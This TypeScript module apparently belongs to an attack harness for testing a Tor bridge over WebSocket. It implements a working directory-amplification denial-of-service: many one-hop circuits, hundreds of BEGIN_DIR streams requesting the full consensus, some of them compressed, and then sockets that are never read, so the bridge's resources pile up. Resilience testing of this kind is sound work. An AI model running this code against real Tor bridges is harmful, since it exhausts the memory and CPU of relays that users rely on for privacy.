import { Circuit } from '../../../shared/circuit/index.ts';
import type { TorStream } from '../../../shared/stream/index.ts';
import type { Attack, AttackReport } from '../harness.ts';
import { Tally, failureLabel } from '../outcomes.ts';
import { bridgeTarget, circuitOptions, sleep, webSocketLink } from '../peer.ts';

/**
 * Attack 4, directory amplification: a few WebSocket links, several one-hop circuits each (ntor:
 * the bridge refuses CREATE_FAST over WebSocket), and on
 * every circuit as many BEGIN_DIR streams as the bridge grants, each asking for the whole consensus
 * (half of them compressed: the bridge deflates it per request) and none ever read. Once every
 * request is out the attacker stops reading its sockets altogether, so whatever the bridge made
 * for it stays queued at the bridge.
 */

const CONSENSUS = '/tor/status-vote/current/consensus-microdesc';

export interface DirAmplificationReport extends AttackReport {
  readonly streams: Tally;
  readonly circuits: Tally;
  readonly links: Tally;
}

export function dirAmplification(opts: { connections?: number; circuitsPerLink?: number; streamsPerCircuit?: number } = {}): Attack<DirAmplificationReport> {
  return async ({ relay, address, signal }) => {
    const streams = new Tally();
    const circuits = new Tally();
    const links = new Tally();
    const held: TorStream[] = [];
    const transports: { pause(): void; close(): void }[] = [];
    const perCircuit = opts.streamsPerCircuit ?? 200;

    const oneLink = async (): Promise<void> => {
      let link: Awaited<ReturnType<typeof webSocketLink>>;
      try {
        link = await webSocketLink(relay, address, 10_000);
        links.add('open');
      } catch (e) {
        links.add(failureLabel(e));
        return;
      }
      transports.push(link.transport);
      for (let c = 0; c < (opts.circuitsPerLink ?? 5) && !signal.aborted && link.channel.isOpen; c++) {
        let circuit: Circuit;
        try {
          circuit = await Circuit.create(link.channel, bridgeTarget(relay), circuitOptions);
          circuits.add('built');
        } catch (e) {
          circuits.add(failureLabel(e));
          continue;
        }
        await Promise.all(Array.from({ length: perCircuit }, async (_, i) => {
          if (signal.aborted) return;
          try {
            const stream = await circuit.openDirStream({ timeoutMs: 15_000 });
            await stream.write(new TextEncoder().encode(`GET ${CONSENSUS}${i % 2 ? '.z' : ''} HTTP/1.0\r\n${i % 4 === 0 ? 'Accept-Encoding: deflate\r\n' : ''}\r\n`));
            streams.add('requested');
            held.push(stream);
          } catch (e) {
            streams.add(failureLabel(e));
          }
        }));
      }
      // Everything asked for: read nothing more, ever.
      link.transport.pause();
      links.add('stopped reading');
    };

    await Promise.all(Array.from({ length: opts.connections ?? 4 }, () => oneLink()));
    while (!signal.aborted) await sleep(100);
    for (const t of transports) t.close();
    return {
      summary: `${opts.connections ?? 4} WebSocket links from ${address}, one-hop circuits: ${circuits}; BEGIN_DIR streams for the consensus, never read: ${streams}; links: ${links}`,
      streams,
      circuits,
      links,
    };
  };
}
